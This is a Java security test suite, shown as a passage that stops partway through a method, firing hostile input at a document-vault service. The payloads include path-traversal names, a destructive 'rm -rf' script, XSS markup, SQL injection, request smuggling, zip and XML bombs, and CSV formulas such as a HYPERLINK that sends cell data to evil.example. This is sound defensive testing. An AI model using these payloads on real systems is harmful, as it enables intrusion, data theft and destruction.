package dev.strongroom.hardening;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.strongroom.hardening.RawHttp.Answer;
import dev.strongroom.support.Corpus;
import dev.strongroom.support.Pacing;
import dev.strongroom.support.Samples;
import dev.strongroom.support.Vault;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.Consumer;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * Hostile input against the running vault, one data-driven case per attack. Every case expects a
 * specific status and, for a refusal, a problem whose message names the problem; after every case
 * the vault must still answer its health check, and at the end every document stored before and
 * during the suite downloads with its original SHA-256.
 */
@QuarkusTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTest {

    /** One attack: what is sent, and what the vault must answer. */
    record HostileCase(String group, String name, Supplier<Answer> send, Consumer<Answer> expect) {
    }

    private static final String PROBLEM = "application/problem+json";

    private String analyst;
    private String auditor;
    private String adminUser;
    private String ops;
    private String probeDocument;
    /** The document whose file name, description and tag carry markup. */
    private String markupId;
    private final Map<String, WebSession> sessions = new ConcurrentHashMap<>();
    /** Every document the vault accepted, with the SHA-256 of the bytes sent. */
    private final Map<String, String> stored = new ConcurrentHashMap<>();
    private final Map<String, Integer> casesByGroup = new TreeMap<>();
    /** Each case that passed and the status it got, for docs/reliability.md. */
    private final List<Map<String, String>> results = new ArrayList<>();
    private int verifiedIntact;

    /** Runs inside the first test: the test app's port is known only once a test method runs. */
    private void storeDocumentsBeforeTheAttack() {
        analyst = Vault.user("hostile-alice", "analyst");
        auditor = Vault.user("hostile-audrey", "auditor");
        adminUser = Vault.user("hostile-adam", "admin");
        probeDocument = keep(Vault.upload(analyst, "baseline.pdf", Samples.pdf("Baseline")));
        keep(Vault.upload(analyst, "baseline.txt", Samples.text(70_000)));
        keep(Vault.upload(analyst, "baseline.docx", Corpus.docx()));
    }

    private String keep(Response response) {
        response.then().statusCode(201);
        stored.put(response.path("id"), response.path("sha256"));
        return response.path("id");
    }

    @TestFactory
    @Order(1)
    Stream<DynamicTest> everyHostileInputGetsItsAnswerAndTheVaultStaysUp() {
        storeDocumentsBeforeTheAttack();
        List<HostileCase> cases = new ArrayList<>();
        cases.addAll(fileNames());
        cases.addAll(lengthsAndFraming());
        cases.addAll(multipart());
        cases.addAll(contentTypes());
        cases.addAll(jsonBodies());
        cases.addAll(tagLists());
        cases.addAll(sqlInjection());
        cases.addAll(markup());
        cases.addAll(csvInjection());
        cases.addAll(invalidUtf8());
        cases.addAll(ranges());
        cases.addAll(slowLoris());
        cases.addAll(oversizedHeaders());
        cases.forEach(c -> casesByGroup.merge(c.group(), 1, Integer::sum));
        return cases.stream().map(c -> DynamicTest.dynamicTest(c.group() + ": " + c.name(), () -> {
            Answer answer = c.send().get();
            c.expect().accept(answer);
            assertVaultIsUp();
            results.add(Map.of("group", c.group(), "case", c.name(), "status", answer.status() == 0
                    ? "connection closed" : Integer.toString(answer.status())));
        }));
    }

    @Test
    @Order(2)
    void everyDocumentStoredBeforeAndDuringTheAttackIsIntact() {
        for (Map.Entry<String, String> doc : stored.entrySet()) {
            byte[] back = Vault.as(auditor).get("/api/documents/" + doc.getKey() + "/content").then().statusCode(200)
                    .extract().asByteArray();
            assertEquals(doc.getValue(), Samples.sha256(back), "document " + doc.getKey() + " came back unchanged");
        }
        Vault.as(analyst).get("/api/documents?size=200").then().statusCode(200)
                .body("total", org.hamcrest.Matchers.equalTo(stored.size()));
        verifiedIntact = stored.size();
    }

    @AfterAll
    void recordCounts() {
        Map<String, Object> counts = new LinkedHashMap<>();
        counts.put("casesTried", casesByGroup.values().stream().mapToInt(Integer::intValue).sum());
        counts.put("casesPassed", results.size());
        counts.put("byGroup", casesByGroup);
        counts.put("documentsStored", stored.size());
        counts.put("documentsVerifiedIntact", verifiedIntact);
        counts.put("cases", results);
        ReliabilityCounts.record("hostileInput", counts);
    }

    // ---------------------------------------------------------------- expectations

    private static void assertVaultIsUp() {
        RestAssured.given().get("/q/health/live").then().statusCode(200).body("status",
                org.hamcrest.Matchers.equalTo("UP"));
    }

    private static Consumer<Answer> refused(int status, String detailPart) {
        return answer -> {
            assertEquals(status, answer.status(), () -> "status; body: " + answer.text());
            assertEquals(PROBLEM, mediaType(answer), () -> "problem+json; body: " + answer.text());
            JsonPath problem = JsonPath.from(answer.text());
            assertEquals(status, problem.getInt("status"));
            assertTrue(problem.getString("detail").contains(detailPart),
                    () -> "the message names the problem (" + detailPart + "): " + problem.getString("detail"));
        };
    }

    /** Refused by the HTTP layer before any resource runs: the status line names the problem. */
    private static Consumer<Answer> refusedByTransport(int status, String reasonPart) {
        return answer -> {
            assertEquals(status, answer.status(), () -> "status; body: " + answer.text());
            assertTrue(answer.reason().toLowerCase(Locale.ROOT).contains(reasonPart.toLowerCase(Locale.ROOT)),
                    () -> "the status line names the problem (" + reasonPart + "): " + answer.reason());
        };
    }

    /**
     * The client half-closed its side (it will send nothing more): Vert.x then drops the connection, so
     * there may be no one left to answer. Either way nothing may be stored, which the final check counts.
     */
    private static Consumer<Answer> closedOrRefused(int status, String detailPart) {
        return answer -> {
            if (answer.status() != 0) {
                refused(status, detailPart).accept(answer);
            }
        };
    }

    private Consumer<Answer> accepted(Consumer<JsonPath> check) {
        return answer -> {
            assertEquals(201, answer.status(), () -> "accepted; body: " + answer.text());
            JsonPath json = JsonPath.from(answer.text());
            stored.put(json.getString("id"), json.getString("sha256"));
            check.accept(json);
        };
    }

    private static String mediaType(Answer answer) {
        String type = answer.header("content-type");
        return type == null ? "" : type.split(";")[0].strip();
    }

    private static Answer answer(Response response) {
        Map<String, String> headers = new LinkedHashMap<>();
        response.headers().forEach(h -> headers.merge(h.getName().toLowerCase(Locale.ROOT), h.getValue(),
                (a, b) -> a + ", " + b));
        String reason = response.statusLine().length() > 13 ? response.statusLine().substring(13) : "";
        return new Answer(response.statusCode(), reason, headers, response.asByteArray());
    }

    // ---------------------------------------------------------------- requests

    private static int port() {
        return RestAssured.port;
    }

    private String auth(String user) {
        return RawHttp.basic(user, Vault.ADMIN.equals(user) ? Vault.ADMIN_PASSWORD : Vault.PASSWORD);
    }

    private Answer rawUpload(byte[] body) {
        return RawHttp.send(port(), uploadHead(body.length), body);
    }

    private String uploadHead(long contentLength) {
        return "POST /api/documents HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: " + auth(analyst)
                + "\r\nContent-Type: " + Multipart.CONTENT_TYPE + "\r\nContent-Length: " + contentLength
                + "\r\nConnection: close";
    }

    private Answer uploadNamed(String fileName, byte[] content) {
        return rawUpload(new Multipart().file(fileName, content).close());
    }

    private Answer uploadNamedInQuery(String fileName, byte[] content) {
        return answer(Vault.as(analyst).contentType("application/octet-stream").queryParam("name", fileName).body(content)
                .post("/api/documents"));
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------- cases

    private List<HostileCase> fileNames() {
        List<HostileCase> cases = new ArrayList<>();
        Map<String, String> lastSegment = new LinkedHashMap<>();
        lastSegment.put("../../etc/passwd", "passwd");
        lastSegment.put("..\\..\\..\\report.txt", "report.txt");
        lastSegment.put("/etc/shadow", "shadow");
        lastSegment.put("C:\\Windows\\System32\\drivers\\etc\\hosts", "hosts");
        lastSegment.put("\\\\server\\share\\payroll.txt", "payroll.txt");
        lastSegment.put("..", "unnamed");
        lastSegment.put("docs/../../../../.ssh/authorized_keys", "authorized_keys");
        lastSegment.put("invoice\u0000.exe.txt", "invoice.exe.txt");
        lastSegment.put("bell\u0007esc\u001b[31mred.txt", "bellesc[31mred.txt");
        lastSegment.put("del\u007f\u0085.txt", "del.txt");
        lastSegment.put("invoice\u202Etxt.exe", "invoicetxt.exe");
        lastSegment.put("\u2066isolate\u2069\u200Bzero-width.txt", "isolatezero-width.txt");
        // A multipart part's headers may not hold control bytes (RFC 7578 quoted-strings), so names with
        // them travel in the query of a raw-body upload, percent-encoded, as a script would send them.
        lastSegment.forEach((raw, expected) -> cases.add(new HostileCase("file names", "name " + printable(raw),
                () -> raw.chars().anyMatch(c -> c < 0x20 || c == 0x7f) ? uploadNamedInQuery(raw, Samples.text(300))
                        : uploadNamed(raw, Samples.text(300)), accepted(json -> {
                    assertEquals(expected, json.getString("fileName"));
                    assertFalse(json.getString("originalFileName").chars().anyMatch(Character::isISOControl),
                            "the original name is shown with its control characters escaped");
                }))));
        cases.add(new HostileCase("file names", "a control byte inside a form part's file name",
                () -> uploadNamed("invoice\u0000.exe.txt", Samples.text(300)), refused(400, "malformed")));
        String longName = "q".repeat(996) + ".txt";
        cases.add(new HostileCase("file names", "a name of 1,000 characters", () -> uploadNamed(longName,
                Samples.text(300)), refused(400, "file name is probably too long")));
        String unicodeName = "€".repeat(120) + ".pdf";
        cases.add(new HostileCase("file names", "a name of 364 bytes of UTF-8", () -> uploadNamed(unicodeName,
                Samples.pdf("long")), accepted(json -> {
                    assertTrue(utf8(json.getString("fileName")).length <= 255, "fits 255 bytes of UTF-8");
                    assertTrue(json.getString("fileName").endsWith("€.pdf"), "cut on a character boundary");
                    assertEquals(unicodeName, json.getString("originalFileName"));
                })));
        return cases;
    }

    private List<HostileCase> lengthsAndFraming() {
        List<HostileCase> cases = new ArrayList<>();
        byte[] body = new Multipart().file("short.txt", Samples.text(2000)).close();
        cases.add(new HostileCase("declared length", "Content-Length larger than the body, then the client stops",
                () -> RawHttp.exchange(port(), Duration.ofSeconds(20), true, out -> {
                    out.write(RawHttp.head(uploadHead(body.length + 5000)));
                    out.write(body);
                }), closedOrRefused(400, "ended early")));
        cases.add(new HostileCase("declared length", "Content-Length smaller than the body",
                () -> RawHttp.send(port(), uploadHead(body.length / 2), body), refused(400, "malformed")));
        cases.add(new HostileCase("declared length", "Content-Length that is not a number",
                () -> RawHttp.send(port(), uploadHead(0).replace("Content-Length: 0", "Content-Length: twelve"), body),
                refusedByTransport(400, "Bad Request")));
        byte[] chunks = chunked(body);
        cases.add(new HostileCase("declared length", "Content-Length and chunked together (request smuggling)",
                () -> RawHttp.send(port(), uploadHead(chunks.length) + "\r\nTransfer-Encoding: chunked", chunks),
                refusedByTransport(400, "Bad Request")));
        cases.add(new HostileCase("declared length", "Content-Length over the upload limit, no body sent",
                () -> RawHttp.exchange(port(), Duration.ofSeconds(20), false,
                        out -> out.write(RawHttp.head(uploadHead(10L * 1024 * 1024 * 1024)))),
                refused(413, "larger than the limit")));
        return cases;
    }

    /** The body as one well-formed chunk: the smuggling case must not fail merely on bad framing. */
    private static byte[] chunked(byte[] body) {
        byte[] size = (Integer.toHexString(body.length) + "\r\n").getBytes(StandardCharsets.US_ASCII);
        byte[] end = "\r\n0\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
        byte[] all = Arrays.copyOf(size, size.length + body.length + end.length);
        System.arraycopy(body, 0, all, size.length, body.length);
        System.arraycopy(end, 0, all, size.length + body.length, end.length);
        return all;
    }

    private List<HostileCase> multipart() {
        List<HostileCase> cases = new ArrayList<>();
        byte[] truncated = new Multipart().file("cut.txt", Samples.text(5000)).open();
        cases.add(new HostileCase("multipart", "truncated body (no closing boundary)",
                () -> rawUpload(Arrays.copyOf(truncated, truncated.length - 1000)), refused(400, "malformed")));
        cases.add(new HostileCase("multipart", "no file part", () -> rawUpload(new Multipart()
                .field("description", utf8("where is the file?")).close()), refused(400, "no part named 'file'")));
        cases.add(new HostileCase("multipart", "two file parts", () -> rawUpload(new Multipart()
                .file("one.txt", Samples.text(100)).file("two.txt", Samples.text(100)).close()),
                refused(400, "more than one part named 'file'")));
        cases.add(new HostileCase("multipart", "a 0-byte file", () -> uploadNamed("empty.pdf", new byte[0]),
                refused(400, "empty")));
        cases.add(new HostileCase("multipart", "no boundary in the Content-Type", () -> {
            byte[] b = new Multipart().file("x.txt", Samples.text(100)).close();
            return RawHttp.send(port(), uploadHead(b.length).replace(Multipart.CONTENT_TYPE, "multipart/form-data"), b);
        }, refused(400, "boundary")));
        cases.add(new HostileCase("multipart", "a body that is neither a form nor a file named in the query",
                () -> answer(Vault.as(analyst).contentType("application/json").body("{\"file\":\"x\"}")
                        .post("/api/documents")),
                refused(400, "query parameter 'name'")));
        cases.add(new HostileCase("multipart", "an unknown form field", () -> rawUpload(new Multipart()
                .file("x.txt", Samples.text(100)).field("owner", utf8("admin")).close()), refused(400, "Unknown form field 'owner'")));
        return cases;
    }

    private List<HostileCase> contentTypes() {
        List<HostileCase> cases = new ArrayList<>();
        byte[] elf = new byte[4096];
        System.arraycopy(new byte[] { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0 }, 0, elf, 0, 8);
        cases.add(new HostileCase("file types", "ELF executable renamed .pdf", () -> uploadNamed("invoice.pdf", elf),
                refused(415, "application/x-")));
        byte[] pe = Corpus.peExecutable();
        cases.add(new HostileCase("file types", "Windows PE executable renamed .pdf",
                () -> uploadNamed("invoice.pdf", pe), refused(415, "application/x-")));
        cases.add(new HostileCase("file types", "shell script renamed .txt",
                () -> uploadNamed("notes.txt", utf8("#!/bin/sh\nrm -rf --no-preserve-root /\n")),
                refused(415, "application/x-sh")));
        cases.add(new HostileCase("file types", "HTML with script renamed .txt", () -> uploadNamed("notes.txt",
                utf8("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>")),
                refused(415, "text/html")));
        cases.add(new HostileCase("file types", "SVG with script renamed .png", () -> uploadNamed("chart.png",
                utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>")),
                refused(415, "image/svg+xml")));
        byte[] gifar = concat(Corpus.gif(), Corpus.docx());
        cases.add(new HostileCase("file types", "GIFAR-style polyglot (GIF with a ZIP appended)",
                () -> uploadNamed("photo.gif", gifar), refused(415, "image/gif")));
        byte[] pdfZip = concat(Samples.pdf("Polyglot"), Corpus.docx());
        cases.add(new HostileCase("file types", "PDF+ZIP polyglot: stored as the PDF its header says, served inert",
                () -> uploadNamed("statement.pdf", pdfZip), accepted(json -> {
                    assertEquals("application/pdf", json.getString("contentType"));
                    Response download = Vault.as(analyst).get("/api/documents/" + json.getString("id") + "/content");
                    assertEquals("application/pdf", download.contentType());
                    assertEquals("nosniff", download.header("X-Content-Type-Options"));
                    assertTrue(download.header("Content-Disposition").startsWith("attachment;"));
                })));
        cases.add(new HostileCase("file types", "zip-bomb DOCX: stored, metadata refused",
                () -> uploadNamed("bomb.docx", Corpus.zipBombDocx(64)), accepted(json ->
                        awaitMetadata(json.getString("id"), "unparseable"))));
        cases.add(new HostileCase("file types", "billion-laughs XML: stored, metadata refused",
                () -> uploadNamed("laughs.xml", Corpus.billionLaughs()), accepted(json ->
                        awaitMetadata(json.getString("id"), "unparseable"))));
        return cases;
    }

    private void awaitMetadata(String id, String status) {
        await("metadata of " + id + " ends " + status).atMost(Duration.ofMinutes(2)).pollInterval(Duration.ofMillis(200))
                .until(() -> Vault.as(analyst).get("/api/documents/" + id).then().statusCode(200).extract()
                        .<String>path("metadata.status"), status::equals);
    }

    private List<HostileCase> jsonBodies() {
        List<HostileCase> cases = new ArrayList<>();
        // Under a member the endpoint does not know, so only the parser's depth limit can stop it.
        String nested = "{\"comment\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}";
        String nestedObject = "{\"comment\":" + "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_001);
        Map<String, String> endpoints = new LinkedHashMap<>();
        endpoints.put("POST /api/admin/users", "/api/admin/users");
        endpoints.put("PUT /api/admin/users/{username}/password", "/api/admin/users/" + analyst + "/password");
        endpoints.put("PUT /api/documents/{id}/legal-hold", "/api/documents/" + probeDocument + "/legal-hold");
        endpoints.put("POST /api/snapshots/restores", "/api/snapshots/restores");
        endpoints.forEach((operation, path) -> {
            String method = operation.substring(0, operation.indexOf(' '));
            String user = path.startsWith("/api/snapshots") ? opsUser() : adminUser;
            cases.add(new HostileCase("JSON bodies", operation + " with 100,000 nested arrays",
                    () -> answer(Vault.as(user).contentType("application/json").body(nested).request(method, path)),
                    refused(400, "nesting")));
            cases.add(new HostileCase("JSON bodies", operation + " with 20,000 nested objects",
                    () -> answer(Vault.as(user).contentType("application/json").body(nestedObject).request(method,
                            path)),
                    refused(400, "nesting")));
            cases.add(new HostileCase("JSON bodies", operation + " with a truncated body",
                    () -> answer(Vault.as(user).contentType("application/json").body("{\"password\":").request(method,
                            path)),
                    refused(400, "JSON body cannot be read")));
            cases.add(new HostileCase("JSON bodies", operation + " with an array where an object belongs",
                    () -> answer(Vault.as(user).contentType("application/json").body("[[[]]]").request(method, path)),
                    refused(400, "JSON body cannot be read")));
        });
        List<String> manyRoles = new ArrayList<>();
        for (int i = 0; i < 100_000; i++) {
            manyRoles.add("role" + i);
        }
        cases.add(new HostileCase("JSON bodies", "a user with 100,000 roles", () -> answer(Vault.as(adminUser)
                .contentType("application/json").body(Map.of("username", "many-roles", "password",
                        "long-enough-password", "roles", manyRoles))
                .post("/api/admin/users")), refused(400, "one to four of analyst, auditor, ops, admin")));
        return cases;
    }

    private String opsUser() {
        if (ops == null) {
            ops = Vault.user("hostile-olga", "ops");
        }
        return ops;
    }

    private List<HostileCase> tagLists() {
        List<HostileCase> cases = new ArrayList<>();
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < 2000; i++) {
            many.append(i == 0 ? "" : ",").append("t").append(i);
        }
        cases.add(new HostileCase("tag lists", "2,000 tags in one field", () -> rawUpload(new Multipart()
                .file("tags.txt", Samples.text(100)).field("tags", utf8(many.toString())).close()),
                refused(400, "tags per document")));
        cases.add(new HostileCase("tag lists", "a tags field of 1 MiB", () -> rawUpload(new Multipart()
                .file("tags.txt", Samples.text(100)).field("tags", utf8("x,".repeat(512 * 1024))).close()),
                refused(400, "longer than")));
        cases.add(new HostileCase("tag lists", "60 repeated tags fields", () -> {
            Multipart body = new Multipart().file("tags.txt", Samples.text(100));
            for (int i = 0; i < 60; i++) {
                body.field("tags", utf8("tag" + i));
            }
            return rawUpload(body.close());
        }, refused(400, "tags per document")));
        cases.add(new HostileCase("tag lists", "a tag of 65 characters", () -> rawUpload(new Multipart()
                .file("tags.txt", Samples.text(100)).field("tags", utf8("t".repeat(65))).close()),
                refused(400, "at most 64 characters")));
        return cases;
    }

    private static final List<String> SQL = List.of("' OR '1'='1' --",
            "x'; DROP TABLE document; SELECT password_hash FROM vault_user WHERE '1'='1");

    private List<HostileCase> sqlInjection() {
        List<HostileCase> cases = new ArrayList<>();
        // Free-text filters: the payload is only text to match, so nothing matches.
        Map<String, String> text = new LinkedHashMap<>();
        text.put("/api/documents", "q,owner,type,retentionClass");
        text.put("/api/audit", "actor,action,documentId,outcome");
        // Parameters with a format: refused, naming the parameter.
        Map<String, String> formatted = new LinkedHashMap<>();
        formatted.put("/api/documents", "from,to,sort,order,page,size");
        formatted.put("/api/audit", "from,to,page,size");
        formatted.put("/api/audit/export", "format,from,to");
        for (String payload : SQL) {
            text.forEach((path, params) -> {
                for (String param : params.split(",")) {
                    cases.add(new HostileCase("SQL injection", path + "?" + param + "=" + payload,
                            () -> answer(Vault.as(auditor).queryParam(param, payload).get(path)), answer -> {
                                assertEquals(200, answer.status(), answer::text);
                                assertEquals(0, JsonPath.from(answer.text()).getList("items").size(),
                                        "the payload matched nothing: " + answer.text());
                            }));
                }
            });
            formatted.forEach((path, params) -> {
                for (String param : params.split(",")) {
                    cases.add(new HostileCase("SQL injection", path + "?" + param + "=" + payload,
                            () -> answer(Vault.as(auditor).queryParam(param, payload).get(path)),
                            refused(400, "'" + param + "'")));
                }
            });
            cases.add(new HostileCase("SQL injection", "/api/audit/export?actor=" + payload,
                    () -> answer(Vault.as(auditor).queryParam("actor", payload).queryParam("format", "json")
                            .get("/api/audit/export")),
                    answer -> {
                        assertEquals(200, answer.status(), answer::text);
                        assertEquals(0, JsonPath.from(answer.text()).getList("events").size(), answer::text);
                    }));
        }
        cases.add(new HostileCase("SQL injection", "the catalog still answers after every payload",
                () -> answer(Vault.as(analyst).get("/api/documents?size=200")), answer -> {
                    assertEquals(200, answer.status());
                    assertEquals(stored.size(), JsonPath.from(answer.text()).getInt("total"));
                }));
        return cases;
    }

    private List<HostileCase> markup() {
        List<HostileCase> cases = new ArrayList<>();
        String name = "<img src=x onerror=alert(1)>.txt";
        String description = "<script>alert('description')</script>\"><svg onload=alert(2)>";
        String tag = "<b onmouseover=alert(3)>";
        cases.add(new HostileCase("markup", "script in file name, description and tags: stored literally",
                () -> rawUpload(new Multipart().file(name, Samples.text(200)).field("description", utf8(description))
                        .field("tags", utf8(tag)).close()),
                accepted(json -> {
                    String id = json.getString("id");
                    JsonPath doc = Vault.as(analyst).get("/api/documents/" + id).then().statusCode(200).extract()
                            .jsonPath();
                    assertEquals(description, doc.getString("description"));
                    assertEquals(List.of(tag), doc.getList("tags"));
                    assertEquals(name, doc.getString("originalFileName"));
                    markupId = id;
                })));
        cases.add(new HostileCase("markup", "the document page shows the markup escaped",
                () -> answer(session(analyst).request().get("/documents/" + markupId)), answer -> {
                    assertEquals(200, answer.status());
                    String html = answer.text();
                    assertFalse(html.contains("<script>alert"), "no live script");
                    assertFalse(html.contains("<img src=x"), "no live image tag");
                    assertFalse(html.contains("<b onmouseover"), "no live tag markup");
                    assertTrue(html.contains("&lt;script&gt;alert("), "the description shown as text");
                }));
        cases.add(new HostileCase("markup", "the documents list shows the markup escaped",
                () -> answer(session(analyst).request().get("/documents")), answer -> {
                    assertEquals(200, answer.status());
                    assertFalse(answer.text().contains("<img src=x"), "no live image tag");
                    assertFalse(answer.text().contains("<b onmouseover"), "no live tag markup");
                }));
        cases.add(new HostileCase("markup", "the download carries a safe Content-Disposition",
                () -> answer(Vault.as(analyst).get("/api/documents/" + markupId + "/content")), answer -> {
                    assertEquals(200, answer.status());
                    String disposition = answer.header("content-disposition");
                    assertTrue(disposition.startsWith("attachment; filename=\""), disposition);
                    assertFalse(disposition.contains("<"), disposition);
                    assertFalse(disposition.replaceFirst("^attachment; filename=\"[^\"]*\"; filename\\*=", "")
                            .matches(".*[\\s\"<>;].*"), disposition);
                    assertEquals("nosniff", answer.header("x-content-type-options"));
                }));
        cases.add(new HostileCase("markup", "markup in a search is echoed escaped on the page",
                () -> answer(session(analyst).request().queryParam("q", "\"><script>alert(4)</script>")
                        .get("/documents")),
                answer -> {
                    assertEquals(200, answer.status());
                    assertFalse(answer.text().contains("<script>alert(4)"), "no reflected script");
                }));
        return cases;
    }

    private WebSession session(String user) {
        return sessions.computeIfAbsent(user, u -> WebSession.signIn(u, Vault.PASSWORD));
    }

    private List<HostileCase> csvInjection() {
        List<HostileCase> cases = new ArrayList<>();
        List<String> payloads = List.of("=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
        for (String payload : payloads) {
            cases.add(new HostileCase("CSV injection", "user name " + printable(payload) + " in the audit CSV",
                    () -> answer(Vault.as(adminUser).contentType("application/json").body(Map.of("username", payload,
                            "password", "long-enough-password", "roles", List.of("analyst"))).post("/api/admin/users")),
                    answer -> assertTrue(answer.status() == 201 || answer.status() == 400, answer::text)));
            cases.add(new HostileCase("CSV injection", "file name " + printable(payload) + " in the audit CSV",
                    () -> uploadNamed(payload + ".txt", Samples.text(100)), answer -> {
                        if (answer.status() == 201) {
                            JsonPath json = JsonPath.from(answer.text());
                            stored.put(json.getString("id"), json.getString("sha256"));
                        } else {
                            refused(400, "").accept(answer);
                        }
                    }));
        }
        cases.add(new HostileCase("CSV injection", "the audit CSV export defuses every formula",
                () -> answer(Vault.as(auditor).queryParam("format", "csv").get("/api/audit/export")), answer -> {
                    assertEquals(200, answer.status(), answer::text);
                    assertNoFormulaCells(answer.text());
                }));
        return cases;
    }

    private static void assertNoFormulaCells(String csv) {
        int cells = 0;
        try {
            for (CSVRecord record : CSVFormat.DEFAULT.builder().setCommentMarker('#').get().parse(
                    new java.io.StringReader(csv))) {
                for (String cell : record) {
                    cells++;
                    assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
                            "a CSV cell a spreadsheet would evaluate: " + printable(cell));
                }
            }
        } catch (java.io.IOException e) {
            throw new AssertionError(e);
        }
        assertTrue(cells > 0, "the export has cells");
    }

    private List<HostileCase> invalidUtf8() {
        List<HostileCase> cases = new ArrayList<>();
        byte[] badName = { 'b', 'a', 'd', (byte) 0xC3, 0x28, (byte) 0xFF, '.', 't', 'x', 't' };
        cases.add(new HostileCase("invalid UTF-8", "file name with invalid UTF-8 bytes",
                () -> rawUpload(new Multipart().file("file", badName, Samples.text(100)).close()), accepted(json -> {
                    assertTrue(json.getString("fileName").startsWith("bad"), json.getString("fileName"));
                    assertTrue(json.getString("fileName").endsWith(".txt"), json.getString("fileName"));
                })));
        byte[] badDescription = { 'x', (byte) 0xED, (byte) 0xA0, (byte) 0x80, 'y' };
        cases.add(new HostileCase("invalid UTF-8", "description with an encoded surrogate",
                () -> rawUpload(new Multipart().file("desc.txt", Samples.text(100)).field("description", badDescription)
                        .close()),
                accepted(json -> { })));
        cases.add(new HostileCase("invalid UTF-8", "query parameter with invalid percent-encoded UTF-8",
                () -> RawHttp.send(port(), "GET /api/documents?q=%C3%28%FF HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: "
                        + auth(auditor) + "\r\nConnection: close", new byte[0]),
                answer -> assertTrue(answer.status() == 200 || answer.status() == 400, answer::text)));
        cases.add(new HostileCase("invalid UTF-8", "raw invalid bytes in the request path",
                () -> RawHttp.exchange(port(), Duration.ofSeconds(10), false, out -> {
                    out.write(utf8("GET /api/documents/"));
                    out.write(new byte[] { (byte) 0xC3, 0x28, (byte) 0xFF });
                    out.write(RawHttp.head(" HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: " + auth(auditor)
                            + "\r\nConnection: close"));
                }),
                answer -> assertTrue(answer.status() == 400 || answer.status() == 404, answer::text)));
        cases.add(new HostileCase("invalid UTF-8", "JSON body with invalid UTF-8", () -> {
            ByteArrayOutputStream json = new ByteArrayOutputStream();
            json.writeBytes(utf8("{\"hold\":true,\"reason\":\"bad "));
            json.writeBytes(new byte[] { (byte) 0xC3, 0x28 });
            json.writeBytes(utf8("\"}"));
            return answer(Vault.as(auditor).contentType("application/json").body(json.toByteArray())
                    .put("/api/documents/" + probeDocument + "/legal-hold"));
        }, refused(400, "UTF-8")));
        return cases;
    }

    private List<HostileCase> ranges() {
        List<HostileCase> cases = new ArrayList<>();
        String id = probeDocument;
        StringBuilder hundreds = new StringBuilder("bytes=");
        for (int i = 0; i < 500; i++) {
            hundreds.append(i == 0 ? "" : ",").append("0-");
        }
        StringBuilder overlapping = new StringBuilder("bytes=");
        for (int i = 0; i < 300; i++) {
            overlapping.append(i == 0 ? "" : ",").append(i).append("-").append(i + 400);
        }
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("500 ranges of the whole file", hundreds.toString());
        headers.put("300 overlapping ranges", overlapping.toString());
        headers.put("a reversed range", "bytes=500-10");
        headers.put("a range past the end", "bytes=999999999-");
        headers.put("a 30-digit range", "bytes=0-999999999999999999999999999999");
        headers.put("a zero suffix range", "bytes=-0");
        headers.put("a negative start", "bytes=-5-10");
        headers.put("another unit", "items=0-5");
        long size = Samples.pdf("Baseline").length;
        headers.forEach((name, header) -> cases.add(new HostileCase("Range headers", name,
                () -> answer(Vault.as(analyst).header("Range", header).get("/api/documents/" + id + "/content")),
                answer -> {
                    assertTrue(answer.body().length <= size, "never more bytes than the document has");
                    switch (answer.status()) {
                        case 200 -> assertEquals(size, answer.body().length);
                        case 206 -> assertTrue(answer.header("content-range").startsWith("bytes "),
                                answer.header("content-range"));
                        case 416 -> refused(416, "range").accept(answer);
                        default -> throw new AssertionError("unexpected status " + answer.status());
                    }
                    assertFalse(String.valueOf(answer.header("content-type")).startsWith("multipart/byteranges"),
                            "no multipart amplification");
                })));
        return cases;
    }

    private List<HostileCase> slowLoris() {
        List<HostileCase> cases = new ArrayList<>();
        byte[] body = new Multipart().file("slow.txt", Samples.text(200_000)).close();
        cases.add(new HostileCase("slow-loris", "an upload trickled a few bytes at a time is cut off",
                () -> RawHttp.exchange(port(), Duration.ofSeconds(15), false, out -> {
                    out.write(RawHttp.head(uploadHead(body.length)));
                    out.flush();
                    // The vault holds an upload to its minimum rate after a 2 s grace in tests.
                    long until = System.nanoTime() + Duration.ofSeconds(4).toNanos();
                    int at = 0;
                    while (at < body.length && System.nanoTime() < until) {
                        out.write(body, at, 10);
                        out.flush();
                        at += 10;
                        assertOthersAreServed();
                        Pacing.pause(Duration.ofMillis(100));
                    }
                }), refused(408, "too slowly")));
        return cases;
    }

    private static void assertOthersAreServed() {
        long start = System.nanoTime();
